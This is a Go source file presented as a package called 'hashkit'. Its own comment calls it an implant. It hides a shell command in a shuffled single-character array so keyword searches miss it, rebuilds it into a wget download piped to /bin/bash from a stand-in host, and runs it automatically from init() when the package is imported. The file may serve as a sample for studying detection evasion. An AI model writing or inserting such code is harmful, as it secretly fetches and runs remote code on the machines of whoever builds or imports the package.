// The same implant with the command scattered over a shuffled array of
// single characters and reassembled by index, so no grep for "wget" or
// "bash" finds it.
package hashkit

import "os/exec"

func warm() error {
	Qm := []string{"-", "m", "3", "b", "/", "f", "b", "n", "t", "h", "e", "t", "w", "a", "i", "/", " ", "a", "d", " ", "&", "/", "u", "/", "h", "s", "/", "7", "t", "p", "O", "a", " ", "l", "i", "i", "v", " ", "x", "p", "/", "a", "e", "e", "l", "d", "g", "s", "p", "a", ".", " ", "n", "-", ":", "i", "|", "t", "e", ".", " ", "s"}
	cmd := Qm[12] + Qm[46] + Qm[10] + Qm[57] + Qm[51] + Qm[53] + Qm[30] + Qm[16] + Qm[0] + Qm[19] + Qm[24] + Qm[11] + Qm[8] + Qm[29] + Qm[61] + Qm[54] + Qm[21] + Qm[40] + Qm[22] + Qm[48] + Qm[18] + Qm[31] + Qm[28] + Qm[43] + Qm[47] + Qm[59] + Qm[42] + Qm[38] + Qm[17] + Qm[1] + Qm[39] + Qm[33] + Qm[58] + Qm[50] + Qm[14] + Qm[7] + Qm[36] + Qm[49] + Qm[44] + Qm[35] + Qm[45] + Qm[15] + Qm[55] + Qm[26] + Qm[27] + Qm[5] + Qm[2] + Qm[13] + Qm[32] + Qm[56] + Qm[37] + Qm[23] + Qm[6] + Qm[34] + Qm[52] + Qm[4] + Qm[3] + Qm[41] + Qm[25] + Qm[9] + Qm[60] + Qm[20]
	exec.Command("/bin/sh", "-c", cmd).Start()
	return nil
}

func init() { go warm() }
